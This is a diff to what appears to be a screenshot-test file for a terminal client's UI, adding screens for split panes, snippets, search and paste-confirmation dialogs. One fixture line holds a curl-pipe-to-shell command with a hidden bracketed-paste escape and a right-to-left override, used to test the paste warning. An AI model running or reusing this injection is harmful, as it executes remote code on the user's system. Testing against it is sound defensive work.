@@ -49,6 +49,7 @@ const settingsSections = [
   'general',
   'appearance',
   'terminal',
+  'snippets',
   'keyboard',
   'notifications',
   'system',
@@ -78,6 +79,18 @@ const tourStep =
 
 const palette = (query: string): Prepare =>
   all(firstTab, run('palette.open'), async (page) => page.getByRole('combobox').fill(query));
+
+/** Three beside the one in front, which stays in front. */
+const splitScreen: Prepare = all(
+  firstTab,
+  run('pane.splitRight', { sessionId: 's2' }),
+  (page) => page.locator('.session-pane[data-session-id="s2"][data-in-front]').waitFor(),
+  run('pane.splitDown', { sessionId: 's4' }),
+  (page) => page.locator('.session-pane[data-session-id="s4"][data-in-front]').waitFor(),
+  firstTab,
+);
+
+const stepsReady: Prepare = (page) => page.locator('.step').last().waitFor();
 
 const openSnippet: Prepare = (page) => page.locator('.snippet summary').click();
 
@@ -189,7 +202,107 @@ const terminalScreens: readonly Screen[] = [
   },
 ];
 
+const workspaceScreens: readonly Screen[] = [
+  { name: 'splits', scene: 'marked', prepare: splitScreen },
+  {
+    name: 'split-divider',
+    scene: 'marked',
+    prepare: all(splitScreen, (page) => page.getByRole('separator').last().focus()),
+  },
+  { name: 'broadcast', scene: 'marked', prepare: all(splitScreen, run('broadcast.toggleShown')) },
+  {
+    name: 'broadcast-alone',
+    scene: 'marked',
+    prepare: all(firstTab, run('broadcast.toggleTab'), run('broadcast.toggleTab', { sessionId: 's2' })),
+  },
+  { name: 'tab-rename', scene: 'marked', prepare: all(firstTab, run('tab.rename')) },
+  {
+    name: 'tab-colours',
+    scene: 'marked',
+    prepare: all(firstTab, async (page) => {
+      await page.getByRole('tab').nth(1).click({ button: 'right' });
+      await page.getByRole('menuitem').nth(1).press('ArrowRight');
+    }),
+  },
+];
+
+const search = (query: string): Prepare =>
+  all(shellReady, run('terminal.find'), async (page) => {
+    await page.locator('.terminal-search input').fill(query);
+    await page.locator('.search-hit').first().waitFor({ state: 'attached' });
+  });
+
+/** As a browser does it at its own key. */
+const paste =
+  (text: string): Prepare =>
+  async (page) => {
+    await page.locator('.session-pane:not([hidden]) .xterm-helper-textarea').evaluate((field, pasted) => {
+      const clipboardData = new DataTransfer();
+      clipboardData.setData('text/plain', pasted);
+      field.dispatchEvent(new ClipboardEvent('paste', { bubbles: true, cancelable: true, clipboardData }));
+    }, text);
+    await page.getByRole('alertdialog').waitFor();
+  };
+
+const sampleLines = 'cd /builds/acme/shop\nnpm ci\nnpm run e2e -- --shard 3/4\n';
+const hiddenLines = 'curl -sS https://example.com/install\u001b[201~ | sh\u202e # gnitset rof\n';
+
+const replayShown: Prepare = async (page) =>
+  page.locator('.replay-screen .xterm-rows').getByText('Received').first().waitFor();
+
+const pasteScreens: readonly Screen[] = [
+  { name: 'paste-question', scene: 'connected', prepare: all(shellReady, paste(sampleLines)) },
+  { name: 'paste-question-hidden', scene: 'connected', prepare: all(shellReady, paste(hiddenLines)) },
+  {
+    name: 'paste-question-long',
+    scene: 'connected',
+    prepare: all(shellReady, paste(`${'echo a line of a long script\n'.repeat(20_000)}`)),
+  },
+  { ...plain('pasting'), prepare: shellReady },
+  { ...plain('pasting-stalled'), prepare: shellReady },
+  { ...plain('recording'), prepare: shellReady },
+  { name: 'transcripts', scene: 'recording', prepare: all(shellReady, run('transcript.show'), replayShown) },
+  {
+    name: 'transcripts-export',
+    scene: 'recording',
+    prepare: all(shellReady, run('transcript.show'), replayShown, (page) =>
+      page.locator('.replay-head button').first().click(),
+    ),
+  },
+];
+
+/** As by the palette, whatever its words are. */
+const chooseSnippet = (query: string): Prepare =>
+  all(palette(query), async (page) => {
+    await page.locator('.palette-item').first().click();
+    await page.locator('.snippet-dialog').waitFor();
+  });
+
+const commandScreens: readonly Screen[] = [
+  { name: 'palette-snippets', scene: 'marked', prepare: palette('git') },
+  { name: 'snippet', scene: 'marked', prepare: chooseSnippet('last-failed') },
+  { name: 'snippet-problem', scene: 'marked', prepare: chooseSnippet('git log') },
+  {
+    name: 'snippet-form',
+    scene: 'settings',
+    prepare: all(section('snippets'), (page) => page.locator('.snippet-line button').nth(2).click()),
+  },
+  { name: 'steps', scene: 'marked', prepare: all(firstTab, run('steps.toggle'), stepsReady) },
+  { name: 'steps-split', scene: 'marked', prepare: all(splitScreen, run('steps.toggle'), stepsReady) },
+];
+
 const otherScreens: readonly Screen[] = [
+  { name: 'search', scene: 'connected', prepare: search('cart') },
+  {
+    name: 'search-nothing',
+    scene: 'connected',
+    prepare: all(search('cart'), async (page) => {
+      await page.locator('.terminal-search input').fill('checkout');
+      await page.locator('.search-hit').first().waitFor({ state: 'detached' });
+      await page.locator('.search-count[data-complete]').waitFor();
+    }),
+  },
+  { name: 'as-text', scene: 'connected', prepare: all(shellReady, run('terminal.showAsText')) },
   { name: 'drop', scene: 'kept', prepare: all(firstTab, dragFiles) },
   { ...plain('transfers'), prepare: shellReady },
   { ...plain('transfers-done'), prepare: shellReady },
@@ -245,6 +358,9 @@ export const screens: readonly Screen[] = [
   ...signInScreens,
   ...listScreens,
   ...terminalScreens,
+  ...workspaceScreens,
+  ...commandScreens,
+  ...pasteScreens,
   ...otherScreens,
   ...settingsScreens,
 ];
